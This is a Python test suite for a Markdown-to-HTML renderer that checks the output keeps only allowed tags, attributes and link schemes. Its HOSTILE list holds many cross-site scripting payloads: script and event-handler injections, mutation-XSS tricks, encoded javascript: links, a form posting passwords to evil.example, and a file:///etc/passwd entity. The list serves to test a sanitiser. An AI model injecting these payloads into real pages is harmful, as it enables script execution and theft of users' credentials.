"""Markdown becomes HTML that cannot harm whoever reads it."""

from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from renderer.domain import fallback_html, to_html

TEXT_TAGS = {"a", "abbr", "b", "br", "code", "del", "em", "i", "s", "strong"}
BLOCK_TAGS = {"blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "ul"}
TAGS = TEXT_TAGS | BLOCK_TAGS | {"table", "tbody", "td", "th", "thead", "tr"}
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "code": {"class"},
    "td": {"align"},
    "th": {"align"},
}
VOID = {"br", "hr"}
REL = "noopener noreferrer nofollow ugc"
NEVER_SHOWN = ("script", "style", "svg", "math", "iframe", "object", "noscript", "template", "title", "textarea")


class Page(HTMLParser):
    """Reads HTML as a browser would, and refuses all that was not promised."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, f"<{tag}>"
        names = [name for name, _ in attrs]
        assert len(set(names)) == len(names)
        assert set(names) <= ATTRIBUTES.get(tag, set()), f"<{tag} {names}>"
        if tag == "a":
            values = dict(attrs)
            assert values["rel"] == REL
            href = values.get("href")
            assert href is None or urlsplit(href.strip()).scheme in {"http", "https", "mailto"}, href
            assert href is None or href.lower().startswith(("http:", "https:", "mailto:")), href
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        pytest.fail(f"a section: {data}")


HOSTILE = [
    # elements that run, load, submit or cover
    "<script>window.pwned = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script\n>pwned()</script\n>",
    "<img src=x onerror=pwned()>",
    "<image/src/onerror=pwned()>",
    "<svg onload=pwned()><circle/></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:pwned() /><a id=x><text>x</text></a></svg>",
    "<math href=javascript:pwned()>x</math>",
    "<math><mi//xlink:href='data:x,<script>pwned()</script>'>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<img src onerror=pwned()>'></iframe>",
    "<object data=javascript:pwned()><param name=x></object>",
    "<embed src=javascript:pwned()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<details open ontoggle=pwned()>x</details>",
    "<marquee onstart=pwned()>x</marquee>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<body onload=pwned()>",
    "<dialog open>covers all</dialog>",
    "<template><script>pwned()</script></template>",
    "<portal src=//evil.example></portal>",
    "<x-y onclick=pwned() tabindex=1 autofocus onfocus=pwned()>x</x-y>",
    # attributes of elements that are allowed
    "<p onclick=pwned()>x</p>",
    "<b style='position:fixed;inset:0'>x</b>",
    "<a href=http://a.example target=_blank rel=opener onclick=pwned()>x</a>",
    "<a id=login name=login class=button href=http://a.example>x</a>",
    "<td background=javascript:pwned()>x</td>",
    "<code class='language-x onclick=pwned() evil'>x</code>",
    "<blockquote cite=javascript:pwned()>x</blockquote>",
    "<p dir=rtl lang=x data-x=y aria-hidden=true>x</p>",
    # links
    "[x](javascript:pwned())",
    "[x](JAVASCRIPT:pwned())",
    "[x](  javascript:pwned())",
    "[x](java\nscript:pwned())",
    "[x](java&Tab;script:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](&#x6A&#x61;vascript:pwned())",
    "[x](javascript&colon;pwned())",
    "[x](\x01javascript:pwned())",
    "[x](\u00a0javascript:pwned())",
    "[x](vbscript:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://a.example/x)",
    "[x](//evil.example)",
    "[x](/api/v1/tokens)",
    "[x](?x)",
    "[x](#x)",
    "[x](\\\\evil.example)",
    "[x](http:evil.example)",
    "<javascript:pwned()>",
    "<JaVaScRiPt:pwned()>",
    "<a href='java\tscript:pwned()'>x</a>",
    "<a href=javascript:pwned()//http://a.example>x</a>",
    "[x]: javascript:pwned()\n\n[x]",
    '[x](http://a.example "onmouseover=pwned() x=\'")',
    '[x](http://a.example"onmouseover=pwned())',
    "[x](http://a.example '\"><script>pwned()</script>')",
    'http://a.example/"onmouseover=pwned()',
    "http://a.example/<script>pwned()</script>",
    "www.a.example/'><img src=x onerror=pwned()>",
    "![x](javascript:pwned())",
    '![x"onerror="pwned()](x)',
    '![x](x "onerror=pwned()")',
    # Markdown that becomes HTML
    '```"><script>pwned()</script>\nx\n```',
    "```x onclick=pwned()\nx\n```",
    "``` { .x onclick=pwned() }\nx\n```",
    '``` {#id .evil style="x"}\nx\n```',
    "`<script>pwned()</script>`",
    "    <script>pwned()</script>",
    "# x {: onclick=pwned() }",
    "x\n{: #id onclick=pwned() }",
    "[x]{: onclick=pwned() }",
    "| <img src=x onerror=pwned()> |\n|---|\n| <script>pwned()</script> |",
    "*<img src=x onerror=pwned()>*",
    "\\<script>pwned()\\</script>",
    "&lt;script>pwned()&lt;/script>",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    # what one parser takes for text and another for an element
    "<!--><script>pwned()</script>-->",
    "<!-- x --!><img src=x onerror=pwned()>-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<?xml-stylesheet href='javascript:pwned()'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<title><b title='</title><img src=x onerror=pwned()>'>",
    "<textarea><b title='</textarea><img src=x onerror=pwned()>'>",
    "<xmp><b title='</xmp><img src=x onerror=pwned()>'>",
    "<plaintext><img src=x onerror=pwned()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwned()>'>",
    "<svg></p><style><a title='</style><img src=x onerror=pwned()>'>",
    "<table><td><svg><desc><td><script>pwned()</script>",
    "<p><table><a href=http://a.example><tr><td></a><b>x",
    "<b><i></b></i><a href=http://a.example><a href=http://b.example>x",
    "</p></div></body></html><script>pwned()</script>",
    "<\x00script>pwned()</script>",
    "<img\x0csrc=x\x0conerror=pwned()>",
    "\u2028<script>pwned()</script>",
    "\x02klzzwxh:0000\x03<img src=x onerror=pwned()>",
    "\x02wzxhzdk:0\x03 <script>pwned()</script>",
    "<" * 200 + "script>pwned()",
    "<a href=http://a.example>" * 50 + "x",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_remains_that_a_browser_would_run_load_or_submit(source: str) -> None:
    Page(to_html(source))


def between(source: str) -> Iterator[str]:
    yield f"hello {source} there"
    yield f"> {source}"
    yield f"- x\n\n    {source}"
    yield f"**{source}**"
    yield f"[{source}](http://a.example)"
    yield f"# {source}"


@pytest.mark.parametrize("source", HOSTILE)
def test_nor_inside_of_anything_else(source: str) -> None:
    for nested in between(source):
        Page(to_html(nested))


@given(st.text(st.sampled_from("<>\"'=/&;:!-[](){}`*_~#|\\ \n\t\x02ab") | st.characters(codec="utf-8"), max_size=60))
def test_nor_does_anything_remain_of_what_chance_writes(source: str) -> None:
    Page(to_html(source))


ELEMENTS = ["<a href=", "<svg>", "</svg>", "<style>", "</p>", "<table>", "<td>", "<math>", "<b title=", "<!--", "-->"]
MARKS = ['"', "'", ">", "[x](", ")", "`", "```\n", "\n\n", "    ", "> ", "- ", "&lt;"]
WORDS = ["x", "http://a.example", "javascript:", "onclick=x"]
fragments = st.sampled_from(ELEMENTS + MARKS + WORDS)


@given(st.lists(fragments, max_size=15).map("".join))
def test_nor_of_what_chance_puts_together(source: str) -> None:
    Page(to_html(source))


@pytest.mark.parametrize("tag", NEVER_SHOWN)
def test_what_was_never_meant_to_be_read_is_not_shown(tag: str) -> None:
    assert "secret" not in to_html(f"before <{tag}>secret</{tag}> after")


MARKDOWN = [
    ("hello", "<p>hello</p>"),
    ("*hello* **there**", "<p><em>hello</em> <strong>there</strong></p>"),
    ("one\ntwo", "<p>one<br>\ntwo</p>"),
    ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
    ("# hello", "<h1>hello</h1>"),
    ("> hello", "<blockquote>\n<p>hello</p>\n</blockquote>"),
    ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
    ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
    ("`a < b`", "<p><code>a &lt; b</code></p>"),
    ("```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
    ("```python\nx = 1\n```", '<pre><code class="language-python">x = 1\n</code></pre>'),
    ("```c++\nx\n```", '<pre><code class="language-c++">x\n</code></pre>'),
    ("a < b && c > d", "<p>a &lt; b &amp;&amp; c &gt; d</p>"),
    ("snake_case_name", "<p>snake_case_name</p>"),
    ("---", "<hr>"),
    ("", ""),
    (" \n ", ""),
]


@pytest.mark.parametrize(("source", "html"), MARKDOWN)
def test_markdown_is_rendered(source: str, html: str) -> None:
    assert to_html(source) == html


def test_a_table_keeps_its_alignment() -> None:
    html = to_html("| a | b |\n|:--|--:|\n| c | d |")
    assert '<th align="left">a</th>' in html
    assert '<td align="right">d</td>' in html


def test_a_link_in_brackets_keeps_its_title() -> None:
    assert to_html('[x](http://a.example "about x")') == (
        f'<p><a href="http://a.example" title="about x" rel="{REL}">x</a></p>'
    )


@pytest.mark.parametrize("language", ["x" * 33, "a.b", "a b", "x_y"])
def test_a_class_is_a_language_and_nothing_else(language: str) -> None:
    assert "class" not in to_html(f'<code class="language-{language}">x</code>')


def test_what_several_people_wrote_does_not_mix() -> None:
    to_html("[x]: http://a.example")
    assert to_html("[x]") == "<p>[x]</p>"


@given(st.text())
def test_what_cannot_be_rendered_is_shown_as_its_text(source: str) -> None:
    source = source.replace("\r", "")
    page = Page(fallback_html(source))
    assert page.text == source
